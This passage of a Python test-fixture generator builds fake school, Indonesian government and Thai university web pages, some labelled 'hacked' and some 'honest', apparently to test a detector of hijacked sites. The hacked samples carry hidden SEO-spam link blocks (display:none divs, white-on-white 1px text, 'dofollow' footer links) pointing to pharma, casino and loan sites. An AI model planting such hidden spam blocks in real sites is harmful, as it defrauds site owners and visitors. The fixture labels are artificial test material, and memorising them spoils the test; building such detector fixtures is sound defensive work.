  <button class="menu-toggle" aria-controls="offcanvas" aria-expanded="false"><span class="screen-reader-text">Menu</span>&#9776;</button>
  <nav id="site-navigation" class="main-navigation" aria-label="Primary"><ul id="primary-menu" class="menu">{nav}</ul></nav>
  <form role="search" method="get" class="search-form" action="https://{host}/"><label><span class="screen-reader-text">Search for:</span><input type="search" class="search-field" placeholder="Search &hellip;" name="s"></label><input type="submit" class="search-submit" value="Search"></form>
</div></header>
<main id="primary" class="site-main">
<section class="hero"><h1>Welcome to {name}</h1></section>
<section class="welcome"><div class="wrap"><h2>Headteacher's Welcome</h2><p>Thank you for visiting our website. We are a happy, caring school where every child is known, valued and encouraged to flourish. Our Christian values of friendship, respect and perseverance underpin everything we do.</p></div></section>
<section><h2 class="section-title">Latest News</h2><div class="news-grid">
{cards}
</div><p class="more"><a href="/news/">View all news</a></p></section>
<section class="upcoming"><h2>Upcoming Events</h2><ul class="events">{ev}</ul><a href="/news-events/calendar/">Full calendar</a></section>
<section class="letters"><h2>Letters Home</h2><ul>{lt}</ul><a href="/parents/letters-home/">All letters</a></section>
<section class="quicklinks"><h2 class="screen-reader-text">Quick links</h2><ul>{qlinks}</ul></section>
<section class="classes"><h2>Our Classes</h2><div class="wp-block-columns is-layout-flex">{classes}</div></section>
<section class="values"><h2>Our Values</h2><div class="wp-block-columns is-layout-flex">{values}</div></section>
<section class="ofsted"><blockquote class="wp-block-quote"><p>&ldquo;Pupils are happy, safe and proud of their school. They behave well and are keen to learn.&rdquo;</p><cite>Ofsted, {EN_MONTHS[10]} 2024</cite></blockquote></section>
<section class="gallery"><h2>Gallery</h2><figure class="wp-block-gallery has-nested-images columns-4 is-cropped">{gallery}</figure></section>
{body_extra}
</main>
<footer id="colophon" class="site-footer"><div class="wrap">
<div class="footer-widgets"><section class="widget"><h2 class="widget-title">Contact Us</h2><p>{name}<br>Church Lane, Little Haddon, Northshire NS4 7QT<br>Tel: 01632 960 482<br>Email: office@{host.replace('www.', '')}</p></section>
<section class="widget"><h2 class="widget-title">Useful Links</h2><ul><li><a href="/privacy-notice/">Privacy Notice</a></li><li><a href="/accessibility-statement/">Accessibility Statement</a></li><li><a href="/cookie-policy/">Cookie Policy</a></li><li><a href="/complaints/">Complaints Procedure</a></li></ul></section></div>
{footer_extra}
<div class="site-info">&copy; 2026 {name}. All rights reserved. | Website by <a href="https://www.schoolwebsites-example.co.uk/">SchoolSites</a></div>
</div></footer>
</div>
<div class="cookie-notice" id="cookie-notice" role="dialog" aria-live="polite"><span>We use cookies to ensure that we give you the best experience on our website.</span> <a href="#" class="cn-accept">Ok</a> <a href="https://ico.org.uk/for-the-public/online/cookies/" target="_blank">Learn more</a></div>
<script id="school-theme-navigation-js" src="https://{host}/wp-content/themes/primaryschool/js/navigation.js?ver=2.4.1"></script>
<script>document.querySelector('.menu-toggle').addEventListener('click',function(){{document.getElementById('offcanvas')&&document.getElementById('offcanvas').classList.toggle('is-open')}});</script>
</body>
</html>
"""


def wp_list_page(name: str, news: list[tuple[str, str, int]]) -> str:
    arts = "\n".join(
        f'<article class="post type-post"><h2 class="entry-title"><a href="{wp_url(n, slug)}">{t}</a></h2>'
        f'<div class="entry-meta"><time class="entry-date published" datetime="{ymd(n)}T09:00:00+00:00">{uk_date(n)}</time></div><p>{t}.</p></article>'
        for t, slug, n in news
    )
    return f"""<!doctype html><html lang="en-GB"><head><meta charset="UTF-8"><title>News &#8211; {name}</title></head>
<body class="blog"><header class="site-header"><a href="/">{name}</a></header><main id="primary"><h1 class="page-title">Latest News</h1>
{arts}
<nav class="navigation pagination"><div class="nav-links"><span aria-current="page" class="page-numbers current">1</span><a class="page-numbers" href="/news/page/2/">2</a><a class="next page-numbers" href="/news/page/2/">Next</a></div></nav>
</main><footer class="site-footer">&copy; 2026 {name}</footer></body></html>"""


def wp_article(name: str) -> str:
    return f"""<!doctype html><html lang="en-GB"><head><meta charset="UTF-8"><title>Our week in school &#8211; {name}</title>
<meta property="article:published_time" content="{ymd(3)}T09:00:00+00:00"></head><body class="single"><header class="site-header"><a href="/">{name}</a></header>
<main><article><h1 class="entry-title">Our week in school</h1><time class="entry-date published" datetime="{ymd(3)}T09:00:00+00:00">{uk_date(3)}</time>
<p>It has been another busy week. Year 4 visited the museum, Year 6 began their revision sessions and our choir sang at the care home.</p></article></main>
<footer class="site-footer">&copy; 2026 {name}</footer></body></html>"""


SCHOOL_NEWS_A = [
    ("World Book Day 2026", "world-book-day-2026", 2), ("Year 6 Residential to Whitby", "year-6-residential-to-whitby", 4),
    ("Science Week: Eggs-periments!", "science-week-egg-speriments", 6), ("Netball Team Win County Cup", "netball-team-win-county-cup", 9),
    ("Red Nose Day Bake Sale", "red-nose-day-bake-sale", 12), ("Reception Visit the Fire Station", "reception-visit-the-fire-station", 16),
]


def h06_school_footer_spam() -> dict[str, Any]:
    """An English primary school's WordPress footer stuffed with pharma, casino and essay-writing links."""
    name, host = "Oakfield Primary School", "www.oakfield-primary-demo.sch.uk"
    spam = [("buy viagra online", "https://pharma-rx24.shop/viagra/"), ("cialis without prescription", "https://pharma-rx24.shop/cialis/"),
            ("cheap tramadol overnight", "https://meds-nextday.top/tramadol/"), ("best online casinos UK", "https://casinoguide-uk.bet/"),
            ("non gamstop casinos", "https://nongamstop-sites.casino/"), ("essay writing service", "https://essaypro-writers.net/"),
            ("write my essay for me", "https://essaypro-writers.net/write-my-essay/"), ("do my assignment cheap", "https://assignmenthelp-uk.org/"),
            ("payday loans no credit check", "https://quickcash-loans.xyz/"), ("online slots real money", "https://slots-real.win/")]
    footer_extra = ('<div class="footer-partners"><p class="partners">Our partners: '
                    + " | ".join(f'<a href="{u}" rel="dofollow">{t}</a>' for t, u in spam) + "</p></div>")
    html = wp_school(name=name, host=host, colors=("#1d4e89", "#163d6b"), news=SCHOOL_NEWS_A,
                     events=[("Parents Evening", -3), ("Easter Bonnet Parade", -10), ("Easter Holidays Begin", -12)],
                     letters=[("Spring Term Newsletter 5", 3), ("Year 3 Trip Letter", 8), ("Parents Evening Booking", 11)],
                     footer_extra=footer_extra)
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/news/": wp_list_page(name, SCHOOL_NEWS_A)},
        "article": wp_article(name),
        "truth": {"kind": "hacked", "idea": "footer SEO spam: viagra/cialis/casino/essay writing/payday loans",
                  "status": "hijacked", "passed": False, "must": ["spam_content"], "must_not": list(ZOMBIE_CODES),
                  "newest": ymd(2), "columns": [{"name": "Latest News", "type": "news", "newest": ymd(2)}]},
    }


SCHOOL_NEWS_B = [
    ("Lent Collective Worship with Revd Sarah", "lent-collective-worship", 1), ("Year 2 Great Fire of London Day", "year-2-great-fire-of-london-day", 3),
    ("Sports Relief Mile", "sports-relief-mile", 5), ("Eco Council Plant 200 Trees", "eco-council-plant-200-trees", 8),
    ("Chess Club Success", "chess-club-success", 11), ("Safer Internet Day", "safer-internet-day", 35),
]


def c08_school_offcanvas() -> dict[str, Any]:
    """Honest: skip link, screen-reader text, off-canvas mobile menu with external services, hidden cookie notice."""
    name, host = "St Mary's CE Primary School", "www.stmarys-ce-demo.sch.uk"
    html = wp_school(name=name, host=host, colors=("#6b1d5c", "#521546"), news=SCHOOL_NEWS_B,
                     events=[("Mothering Sunday Service", -4), ("Year 5 Bikeability", -8), ("Break up for Easter", -12)],
                     letters=[("Newsletter 14 March", 2), ("Bikeability Consent", 6), ("Easter Service Invitation", 9)],
                     offcanvas=True)
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/news/": wp_list_page(name, SCHOOL_NEWS_B)},
        "article": wp_article(name),
        "truth": {"kind": "honest", "idea": "skip link + off-canvas menu with external links (ParentPay, Ofsted...) + hidden cookie notice",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "Latest News", "type": "news", "newest": ymd(1)}]},
    }


# --------------------------------------------------------------------------- Indonesian

ID_CSS = """.mt-0{margin-top:0.0rem!important}.mb-0{margin-bottom:0.0rem!important}.pt-0{padding-top:0.0rem!important}.pb-0{padding-bottom:0.0rem!important}.mt-1{margin-top:0.25rem!important}.mb-1{margin-bottom:0.25rem!important}.pt-1{padding-top:0.25rem!important}.pb-1{padding-bottom:0.25rem!important}.mt-2{margin-top:0.5rem!important}.mb-2{margin-bottom:0.5rem!important}.pt-2{padding-top:0.5rem!important}.pb-2{padding-bottom:0.5rem!important}.mt-3{margin-top:0.75rem!important}.mb-3{margin-bottom:0.75rem!important}.pt-3{padding-top:0.75rem!important}.pb-3{padding-bottom:0.75rem!important}.mt-4{margin-top:1.0rem!important}.mb-4{margin-bottom:1.0rem!important}.pt-4{padding-top:1.0rem!important}.pb-4{padding-bottom:1.0rem!important}.mt-5{margin-top:1.25rem!important}.mb-5{margin-bottom:1.25rem!important}.pt-5{padding-top:1.25rem!important}.pb-5{padding-bottom:1.25rem!important}
.card-title a{color:#003366;font-weight:600}.card-title a:hover{color:#0056b3}.btn-primary{background:#003366;border-color:#003366}.btn-outline-primary{color:#003366;border-color:#003366}.dropdown-item{font-size:14px;padding:.45rem 1.2rem}.dropdown-item:hover{background:#eef3f9}.carousel-item img{height:420px;object-fit:cover}.galeri img{border-radius:8px;height:150px;object-fit:cover;width:100%}.ikm table td,.ikm table th{font-size:13px}.list-inline-item a{color:#cfd8e3;font-size:13px}
body{font-family:'Poppins',sans-serif;background:#f7f9fc;color:#333}.topbar{background:#003366;color:#fff;font-size:13px;padding:6px 0}
.navbar{background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.08)}.navbar .dropdown-menu{display:none}.navbar li:hover .dropdown-menu{display:block}
.berita .card{border:0;border-radius:10px;box-shadow:0 2px 10px rgba(0,0,0,.06);margin-bottom:20px}.berita .tanggal{color:#8a94a6;font-size:12px}
.pengumuman li{border-bottom:1px dashed #ddd;padding:8px 0}.layanan .item{text-align:center;padding:20px}.footer{background:#002244;color:#cfd8e3;padding:40px 0}
.sidebar-widget{background:#fff;padding:16px;border-radius:8px;margin-bottom:20px}.running-text{background:#ffc107;padding:6px}"""


def id_portal(*, name: str, host: str, tagline: str, berita: list[tuple[str, int]], pengumuman: list[tuple[str, int]],
              layanan: list[str], extra_main: str = "", body_end: str = "", head_extra: str = "") -> str:
    def slug(t: str) -> str:
        return "".join(ch if ch.isalnum() else "-" for ch in t.lower()).strip("-")[:60]

    cards = "\n".join(
        f'<div class="col-md-4"><div class="card"><img class="card-img-top" src="/uploads/berita/{ago(n).year}/{i + 11}.jpg" alt="">'
        f'<div class="card-body"><span class="tanggal"><i class="fa fa-calendar"></i> {id_date(n)}</span>'
        f'<h5 class="card-title"><a href="/berita/{slug(t)}">{t}</a></h5><p>{t}. Selengkapnya dapat dibaca pada tautan berikut.</p>'
        f'<a href="/berita/{slug(t)}" class="btn btn-sm btn-primary">Baca Selengkapnya</a></div></div></div>'
        for i, (t, n) in enumerate(berita)
    )
    peng = "\n".join(f'<li><a href="/pengumuman/{slug(t)}">{t}</a><br><small class="tanggal">{id_date(n)}</small></li>' for t, n in pengumuman)
    lay = "".join(f'<div class="col-md-3 item"><a href="/layanan/{slug(s)}"><img src="/assets/img/icon/{k}.svg" alt=""><p>{s}</p></a></div>' for k, s in enumerate(layanan, 1))
    menus = [("Profil", ["Sejarah", "Visi dan Misi", "Struktur Organisasi", "Tugas dan Fungsi", "Profil Pejabat"]),
             ("Layanan", layanan[:6]), ("Informasi Publik", ["Informasi Berkala", "Informasi Serta Merta", "Informasi Setiap Saat", "Daftar Informasi Publik", "Laporan PPID"]),
             ("Publikasi", ["Berita", "Pengumuman", "Galeri Foto", "Video", "Regulasi"]), ("Pengaduan", ["SP4N LAPOR!", "WhatsApp Pengaduan", "Survei Kepuasan Masyarakat"])]
    nav = "".join(
        f'<li class="nav-item dropdown"><a class="nav-link dropdown-toggle" href="#">{m}</a><ul class="dropdown-menu">'
        + "".join(f'<li><a class="dropdown-item" href="/{slug(m)}/{slug(s)}">{s}</a></li>' for s in subs) + "</ul></li>"
        for m, subs in menus
    )
    return f"""<!DOCTYPE html>
<html lang="id">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{name} - {tagline}</title>
<meta name="description" content="Website resmi {name}. {tagline}.">
<link rel="icon" href="/assets/img/favicon.png">
<link href="/assets/vendor/bootstrap/css/bootstrap.min.css" rel="stylesheet">
<link href="/assets/vendor/fontawesome/css/all.min.css" rel="stylesheet">
<link href="https://fonts.googleapis.com/css2?family=Poppins:wght@300;400;600&display=swap" rel="stylesheet">
<style>{ID_CSS}</style>
{head_extra}
</head>
<body>
<div class="topbar"><div class="container d-flex justify-content-between"><span><i class="fa fa-phone"></i> (0511) 3305 221 &nbsp; <i class="fa fa-envelope"></i> info@{host.replace('www.', '')}</span>
<span><a href="https://www.instagram.com/" class="text-white">Instagram</a> &middot; <a href="https://www.youtube.com/" class="text-white">YouTube</a> &middot; <a href="https://www.facebook.com/" class="text-white">Facebook</a></span></div></div>
<nav class="navbar navbar-expand-lg"><div class="container"><a class="navbar-brand" href="/"><img src="/assets/img/logo.png" height="54" alt="{name}"> <b>{name}</b></a>
<ul class="navbar-nav ms-auto"><li class="nav-item"><a class="nav-link" href="/">Beranda</a></li>{nav}<li class="nav-item"><a class="nav-link" href="/kontak">Kontak</a></li></ul></div></nav>
<div class="running-text"><marquee scrollamount="5">Selamat datang di website resmi {name}. Layanan tidak dipungut biaya. Waspada penipuan yang mengatasnamakan petugas kami!</marquee></div>
<div id="carouselHero" class="carousel slide"><div class="carousel-inner"><div class="carousel-item active"><img src="/uploads/slider/slide1.jpg" class="d-block w-100" alt="Zona Integritas WBK WBBM"></div>
<div class="carousel-item"><img src="/uploads/slider/slide2.jpg" class="d-block w-100" alt="Maklumat Pelayanan"></div></div></div>
<main class="container my-4">
<section class="layanan"><h3>Layanan Kami</h3><div class="row">{lay}</div></section>
{extra_main}
<section class="ikm"><h3>Indeks Kepuasan Masyarakat</h3><table class="table table-striped"><thead><tr><th>Unsur Pelayanan</th><th>Nilai</th><th>Mutu</th></tr></thead><tbody>
{"".join(f"<tr><td>{u}</td><td>{v}</td><td>{'A' if v > 3.5 else 'B'}</td></tr>" for u, v in [("Persyaratan", 3.61), ("Sistem, Mekanisme dan Prosedur", 3.55), ("Waktu Penyelesaian", 3.42), ("Biaya/Tarif", 3.88), ("Produk Spesifikasi Jenis Pelayanan", 3.58), ("Kompetensi Pelaksana", 3.63), ("Perilaku Pelaksana", 3.71), ("Penanganan Pengaduan", 3.49), ("Sarana dan Prasarana", 3.40)])}
</tbody></table><p>Periode survei: Triwulan IV 2025. Jumlah responden: 412 orang.</p></section>
<section class="galeri"><h3>Galeri Kegiatan</h3><div class="row">{"".join(f'<div class="col-md-3"><a href="/galeri/album-{k}"><img src="/uploads/galeri/thumb-{k}.jpg" class="img-fluid" alt="Kegiatan {k}"></a><p>{t}</p></div>' for k, t in enumerate(["Apel Pagi Gabungan", "Rapat Koordinasi Triwulan", "Pembinaan Pegawai", "Kunjungan Kerja Kepala Kanwil", "Sosialisasi Layanan Publik", "Penandatanganan Pakta Integritas", "Bakti Sosial", "Pelatihan Pelayanan Prima"], 1))}</div></section>
<section class="video"><h3>Video</h3><div class="ratio ratio-16x9"><iframe src="https://www.youtube.com/embed/videoseries?list=PLx0sYbCqOb8TBPRdmBHs5Iftvv9TPboYG" title="YouTube" allowfullscreen></iframe></div></section>
<div class="row"><section class="berita col-lg-8"><h3>Berita Terkini</h3><div class="row">
{cards}
</div><a href="/berita" class="btn btn-outline-primary">Lihat Semua Berita</a></section>
<aside class="col-lg-4"><div class="sidebar-widget pengumuman"><h4>Pengumuman</h4><ul class="list-unstyled">
{peng}
</ul><a href="/pengumuman">Indeks Pengumuman</a></div>
<div class="sidebar-widget"><h4>Tautan Terkait</h4><ul><li><a href="https://www.imigrasi.go.id/">Direktorat Jenderal Imigrasi</a></li><li><a href="https://www.kemenkumham.go.id/">Kemenkumham RI</a></li><li><a href="https://www.lapor.go.id/">SP4N LAPOR!</a></li><li><a href="https://jdih.kemenkumham.go.id/">JDIH</a></li></ul></div>
<div class="sidebar-widget"><h4>Statistik Pengunjung</h4><p>Hari ini: 412<br>Bulan ini: 12.880<br>Total: 1.204.551</p></div></aside></div>
</main>
<footer class="footer"><div class="container"><div class="row"><div class="col-md-5"><h5>{name}</h5><p>Jl. Jend. Sudirman No. 12, Kotabaru, Kalimantan Selatan 72113</p><p>Jam Layanan: Senin - Jumat 08.00 - 16.00 WITA</p></div>
<div class="col-md-4"><h5>Tautan</h5><ul><li><a href="/ppid">PPID</a></li><li><a href="/maklumat-pelayanan">Maklumat Pelayanan</a></li><li><a href="/standar-pelayanan">Standar Pelayanan</a></li><li><a href="/faq">FAQ</a></li></ul></div>
<div class="col-md-3"><h5>Peta Lokasi</h5><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3983" width="100%" height="160" style="border:0" loading="lazy"></iframe></div></div>
<div class="row mt-3"><div class="col-12"><h5>Link Kementerian dan Lembaga</h5><ul class="list-inline">{"".join(f'<li class="list-inline-item"><a href="https://www.{d}.go.id/">{t}</a></li>' for d, t in [("setneg", "Kementerian Sekretariat Negara"), ("kemendagri", "Kementerian Dalam Negeri"), ("kemenkeu", "Kementerian Keuangan"), ("kemdikbud", "Kementerian Pendidikan"), ("kemkes", "Kementerian Kesehatan"), ("menpan", "Kementerian PANRB"), ("bkn", "Badan Kepegawaian Negara"), ("bps", "Badan Pusat Statistik"), ("lkpp", "LKPP"), ("ombudsman", "Ombudsman RI"), ("bpk", "Badan Pemeriksa Keuangan"), ("kalselprov", "Pemprov Kalimantan Selatan")])}</ul></div></div>
<div class="maklumat"><h5>Maklumat Pelayanan</h5><p>Dengan ini kami menyatakan sanggup menyelenggarakan pelayanan sesuai standar pelayanan yang telah ditetapkan dan apabila tidak menepati janji ini, kami siap menerima sanksi sesuai peraturan perundang-undangan yang berlaku. Kami berkomitmen mewujudkan Wilayah Bebas dari Korupsi (WBK) dan Wilayah Birokrasi Bersih dan Melayani (WBBM), menolak segala bentuk gratifikasi, pungutan liar, dan praktik percaloan.</p>
<p>Pengaduan dapat disampaikan melalui SP4N LAPOR!, WhatsApp pengaduan, kotak saran di ruang tunggu, atau langsung kepada petugas pengaduan pada jam layanan. Setiap pengaduan akan ditindaklanjuti paling lambat 14 hari kerja.</p></div>
<p class="text-center mt-3">&copy; 2026 {name}. Hak Cipta Dilindungi.</p></div></footer>
<script src="/assets/vendor/bootstrap/js/bootstrap.bundle.min.js"></script>
{body_end}
</body>
</html>
"""


def id_list_page(name: str, heading: str, items: list[tuple[str, int]]) -> str:
    rows = "\n".join(f'<div class="item"><h4><a href="/berita/item-{i}">{t}</a></h4><span class="tanggal">{id_date(n)}</span></div>' for i, (t, n) in enumerate(items))
    return f"""<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><title>{heading} - {name}</title></head><body>
<nav><a href="/">Beranda</a></nav><main class="container"><h1>{heading}</h1>{rows}
<ul class="pagination"><li class="active"><a href="?page=1">1</a></li><li><a href="?page=2">2</a></li><li><a href="?page=2">Selanjutnya</a></li></ul></main>
<footer>&copy; 2026 {name}</footer></body></html>"""


def id_article(name: str) -> str:
    return f"""<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><title>Berita - {name}</title></head><body><nav><a href="/">Beranda</a></nav>
<article><h1>Kegiatan Apel Pagi dan Penguatan Zona Integritas</h1><span class="tanggal">{id_date(3)}</span>
<p>Seluruh pegawai mengikuti apel pagi yang dipimpin langsung oleh Kepala Kantor. Dalam arahannya beliau menekankan pentingnya pelayanan prima kepada masyarakat.</p></article>
<footer>&copy; 2026 {name}</footer></body></html>"""


def h07_slot_gacor() -> dict[str, Any]:
    """An Indonesian district education office (.go.id) with a hidden 'slot gacor' block, 2024-2026 style."""
    name, host = "Dinas Pendidikan Kabupaten Tanah Laut", "disdik.tanahlaut-demo.go.id"
    berita = [("Bupati Resmikan Gedung Baru SDN 2 Pelaihari", 1), ("Pelaksanaan Asesmen Nasional Berbasis Komputer Tahun 2026", 3),
              ("Sosialisasi Kurikulum Merdeka bagi Guru SMP", 5), ("Lomba Literasi Tingkat Kabupaten Dibuka", 8),
              ("Penyaluran Dana BOSP Tahap I Tahun 2026", 12), ("Peringatan Hari Guru Nasional", 110)]
    peng = [("Jadwal Seleksi PPPK Guru Tahun 2026", 2), ("Pengumuman Hasil Verifikasi Tunjangan Profesi Guru", 6),
            ("Penerimaan Murid Baru (SPMB) TK, SD, SMP Tahun Ajaran 2026/2027", 9), ("Libur Awal Ramadan dan Idul Fitri 1447 H", 20)]
    spam_links = [("slot gacor", "https://slotgacor-maxwin.org/"), ("situs slot gacor hari ini", "https://slotgacor-maxwin.org/hari-ini/"),
                  ("slot88", "https://slot88-resmi.xyz/"), ("slot thailand", "https://slotthailand-asli.site/"),
                  ("situs toto", "https://situstoto4d.vip/"), ("togel online", "https://togel-hk.live/"),
                  ("scatter hitam mahjong ways", "https://mahjongways-scatter.online/"), ("link slot dana", "https://slotdana5000.com/"),
                  ("slot deposit 5000", "https://slotdana5000.com/depo/"), ("rtp slot live", "https://rtp-live-gacor.net/")]
    hidden = ('<div style="display:none">'
              '<h2>Situs Slot Gacor Hari Ini Gampang Maxwin Terpercaya 2026</h2>'
              '<p>Daftar slot gacor gampang menang, slot online terbaru dengan RTP tertinggi, deposit pulsa dan dana tanpa potongan. Bocoran pola slot gacor hari ini, jackpot maxwin x500.</p>'
              + " ".join(f'<a href="{u}">{t}</a>' for t, u in spam_links) + "</div>")
    html = id_portal(name=name, host=host, tagline="Mewujudkan Pendidikan Bermutu dan Berkarakter", berita=berita, pengumuman=peng,
                     layanan=["Legalisir Ijazah", "Mutasi Siswa", "Izin Pendirian Sekolah", "Data Pokok Pendidikan", "Tunjangan Profesi Guru", "Pengaduan"],
                     body_end=hidden)
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/berita": id_list_page(name, "Berita", berita), "/pengumuman": id_list_page(name, "Pengumuman", peng)},
        "article": id_article(name),
        "truth": {"kind": "hacked", "idea": "hidden div of Indonesian 'slot gacor'/togel/maxwin links",
                  "status": "hijacked", "passed": False, "must": ["hidden_links", "spam_content"], "must_not": list(ZOMBIE_CODES),
                  "newest": ymd(1), "columns": [{"name": "Berita Terkini", "type": "news", "newest": ymd(1)},
                                                 {"name": "Pengumuman", "type": "notice", "newest": ymd(2)}]},
    }


def c07_id_appointment_slots() -> dict[str, Any]:
    """Honest: an Indonesian immigration office that talks about appointment 'slot' quotas."""
    name, host = "Kantor Imigrasi Kelas II TPI Kotabaru", "kotabaru.imigrasi-demo.go.id"
    berita = [("Kuota Slot Antrean Paspor Ditambah Menjadi 150 per Hari", 1), ("Imigrasi Kotabaru Gelar Layanan Paspor Simpatik di Sabtu Pagi", 4),
              ("Tim Pora Lakukan Pengawasan Orang Asing di Pelabuhan", 6), ("Eazy Passport Layani 80 Pemohon di Kecamatan Pulau Laut Utara", 9),
              ("Kanim Kotabaru Raih Predikat WBK", 13), ("Sosialisasi Bahaya TPPO dan Pekerja Migran Nonprosedural", 18)]
    peng = [("Slot Antrean M-Paspor Minggu Ini Telah Dibuka", 1), ("Jadwal Layanan Paspor Selama Bulan Ramadan 1447 H", 3),
            ("Perubahan Jam Layanan Tanggal 18-20 Maret 2026", 5), ("Tarif PNBP Layanan Keimigrasian Terbaru", 30)]
    slot_box = f"""<section class="info-slot sidebar-widget"><h3>Informasi Slot Antrean Paspor</h3>
<table class="table"><thead><tr><th>Tanggal</th><th>Slot Tersedia</th><th>Keterangan</th></tr></thead><tbody>
<tr><td>{id_date(-1)}</td><td>42 slot</td><td>Pagi 08.00-12.00</td></tr><tr><td>{id_date(-2)}</td><td>0 slot</td><td>Penuh</td></tr><tr><td>{id_date(-3)}</td><td>65 slot</td><td>Termasuk slot prioritas lansia dan disabilitas</td></tr></tbody></table>
<p>Slot antrean dibuka setiap hari Jumat pukul 15.00 WITA melalui aplikasi M-Paspor. Pemohon yang tidak mendapatkan slot dapat datang langsung untuk layanan prioritas (lansia, ibu hamil, anak di bawah 2 tahun). Jangan percaya calo yang menawarkan slot antrean berbayar!</p>
<p><a href="https://www.imigrasi.go.id/id/m-paspor/">Unduh aplikasi M-Paspor</a> &middot; <a href="/layanan/cek-slot-antrean">Cek slot antrean</a></p></section>"""
    html = id_portal(name=name, host=host, tagline="Melayani dengan Hati, Cepat, Tepat dan Akuntabel", berita=berita, pengumuman=peng,
                     layanan=["Paspor Baru", "Penggantian Paspor", "Izin Tinggal", "Cek Slot Antrean", "Pengaduan Masyarakat", "Eazy Passport"],
                     extra_main=slot_box)
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/berita": id_list_page(name, "Berita", berita), "/pengumuman": id_list_page(name, "Pengumuman", peng)},
        "article": id_article(name),
        "truth": {"kind": "honest", "idea": "'slot antrean' (appointment slots) everywhere",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "Berita Terkini", "type": "news", "newest": ymd(1)},
                                                 {"name": "Pengumuman", "type": "notice", "newest": ymd(1)}]},
    }


# --------------------------------------------------------------------------- Thai university

def h08_thai_casino() -> dict[str, Any]:
    """A Thai university faculty site (Joomla) with same-colour tiny text of Thai casino spam."""
    name, host = "คณะเกษตรศาสตร์ มหาวิทยาลัยราชภัฏนครเหนือ", "agri.nnru-demo.ac.th"
    news = [("ประกาศรับสมัครนักศึกษาใหม่ ภาคปกติ ปีการศึกษา 2569 รอบที่ 3", 1), ("คณะฯ จัดอบรมการผลิตปุ๋ยอินทรีย์ให้เกษตรกรชุมชน", 3),
            ("นักศึกษาสาขาพืชศาสตร์คว้ารางวัลชนะเลิศการประกวดโครงงาน", 6), ("ขอแสดงความยินดีกับบัณฑิตที่สำเร็จการศึกษา", 10),
            ("ประชุมคณะกรรมการประจำคณะ ครั้งที่ 2/2569", 14), ("โครงการบริการวิชาการแก่สังคม ประจำปีงบประมาณ 2569", 21)]
    rows = "\n".join(
        f'<div class="item"><h3 class="item-title"><a href="/index.php/news/{400 + i}">{t}</a></h3><dd class="published"><time datetime="{ymd(n)}T08:30:00+07:00">เผยแพร่เมื่อ {th_date(n)}</time></dd></div>'
        for i, (t, n) in enumerate(news)
    )
    spam = ("สล็อตเว็บตรง", "https://slot-webtrong.bet/"), ("บาคาร่าออนไลน์", "https://baccarat-th.vip/"), ("แทงบอลออนไลน์", "https://ufabet-th.co/"), \
        ("เว็บพนันออนไลน์", "https://ufabet-th.co/casino/"), ("pg slot", "https://pgslot-auto.com/"), ("สล็อต pg เว็บตรง", "https://pgslot-auto.com/th/"), \
        ("คาสิโนออนไลน์", "https://casino-th888.com/"), ("หวยออนไลน์", "https://huay-online.vip/"), ("ufabet", "https://ufabet-th.co/"), \
        ("เครดิตฟรี 100", "https://slot-webtrong.bet/free/")
    block = ('<div class="moduletable footer-seo" style="color:#ffffff;background:#ffffff;font-size:1px;line-height:1px;height:1px;overflow:hidden">'
             + " ".join(f'<a style="color:#ffffff" href="{u}">{t}</a>' for t, u in spam) + "</div>")
    menu = "".join(f'<li class="item-{100 + k}"><a href="/index.php/{k}">{t}</a></li>' for k, t in enumerate(
        ["หน้าแรก", "เกี่ยวกับคณะ", "ประวัติคณะ", "วิสัยทัศน์ พันธกิจ", "โครงสร้างองค์กร", "หลักสูตร", "เทคโนโลยีการเกษตร", "สัตวศาสตร์", "พืชศาสตร์",
         "นักศึกษา", "งานวิจัย", "บริการวิชาการ", "ประกันคุณภาพ", "ดาวน์โหลดเอกสาร", "ติดต่อเรา"]))
    filler = "\n".join(
        f'<div class="custom"><h3>{t}</h3><p>{t} คณะเกษตรศาสตร์มุ่งมั่นพัฒนาบัณฑิตให้มีความรู้คู่คุณธรรม ส่งเสริมการวิจัยและถ่ายทอดเทคโนโลยีการเกษตรสู่ชุมชนท้องถิ่นอย่างยั่งยืน</p></div>'
        for t in ["ปรัชญา", "วิสัยทัศน์", "พันธกิจ", "ค่านิยมองค์กร", "เป้าประสงค์", "ยุทธศาสตร์", "ศูนย์เรียนรู้เกษตรทฤษฎีใหม่", "ฟาร์มมหาวิทยาลัย"] * 3)
    units = "".join(f'<li><a href="https://{u}.nnru-demo.ac.th/">{t}</a></li>' for u, t in [
        ("edu", "คณะครุศาสตร์"), ("human", "คณะมนุษยศาสตร์และสังคมศาสตร์"), ("sci", "คณะวิทยาศาสตร์และเทคโนโลยี"), ("ms", "คณะวิทยาการจัดการ"),
        ("it", "คณะเทคโนโลยีอุตสาหกรรม"), ("grad", "บัณฑิตวิทยาลัย"), ("reg", "สำนักส่งเสริมวิชาการและงานทะเบียน"), ("lib", "สำนักวิทยบริการและเทคโนโลยีสารสนเทศ"),
        ("rdi", "สถาบันวิจัยและพัฒนา"), ("art", "สำนักศิลปะและวัฒนธรรม"), ("plan", "กองนโยบายและแผน"), ("finance", "กองคลัง")] * 2)
    html = f"""<!DOCTYPE html>
<html lang="th-th" dir="ltr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="generator" content="Joomla! - Open Source Content Management">
<title>{name}</title>
<link href="/media/templates/site/cassiopeia/css/template.min.css?4.4.3" rel="stylesheet">
<link href="/media/templates/site/cassiopeia/css/vendor/joomla-custom-elements/joomla-alert.min.css" rel="stylesheet">
<style>:root{{--cassiopeia-color-primary:#1b5e20;--cassiopeia-color-link:#2e7d32}}.header{{background:#1b5e20}}</style>
<script type="application/json" class="joomla-script-options new">{{"joomla.jtext":{{"ERROR":"ข้อผิดพลาด","MESSAGE":"ข้อความ"}},"system.paths":{{"root":"","rootFull":"https://{host}/","base":""}}}}</script>
